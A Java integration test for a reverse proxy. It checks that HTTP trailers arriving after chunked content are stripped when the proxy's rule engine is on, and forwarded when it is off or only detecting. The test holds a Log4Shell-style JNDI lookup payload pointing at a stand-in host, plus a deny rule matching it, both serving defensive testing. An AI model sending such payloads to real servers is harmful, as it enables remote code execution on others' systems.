package dev.portcullis.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Fields behind chunked content, which backends may merge into the head: what rules did not see does not get there. */
class TrailersIT {
    private static final String ATTACK = "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n";

    @TempDir
    private Path folder;

    /** What the backend gets behind the content of a request with {@code trailers}. */
    private String forwarded(String engine, String trailers) throws IOException {
        Files.writeString(
                folder.resolve("jndi.conf"),
                "SecRequestBodyAccess On\nSecRule REQUEST_HEADERS \"@contains ${jndi:\" \"id:1,phase:2,deny,status:403\"\n");
        RawBackend backend = new RawBackend(connection -> {
            connection.readHead();
            assertThat(connection.read("3\r\nabc\r\n0\r\n".length())).isEqualTo("3\r\nabc\r\n0\r\n");
            connection.readTrailers();
            connection.send(UpstreamFixture.OK);
            connection.readToEnd();
        });
        try (backend;
                AssembledProxy proxy = AssembledProxy.serving("""
                        clusters: {app: {endpoints: ['http://%s']}}
                        rules: {files: [jndi.conf], engine: %s}
                        routes: [{name: app, cluster: app}]
                        """.formatted(backend.address(), engine), folder)) {
            RawResponse response =
                    proxy.answer("POST / HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n\r\n"
                            + "3\r\nabc\r\n0\r\n" + trailers + "\r\n");
            assertThat(response.status()).isEqualTo(200);
            return backend.heads().get(1);
        }
    }

    @Test
    void whatRulesDoNotSeeEndsHere() throws Exception {
        assertThat(forwarded("'on'", ATTACK)).isEmpty();
    }

    @Test
    void theyPassWhereNothingIsRefused() throws Exception {
        assertThat(forwarded("'off'", ATTACK)).isEqualTo(ATTACK);
        assertThat(forwarded("detection-only", ATTACK)).isEqualTo(ATTACK);
    }
}
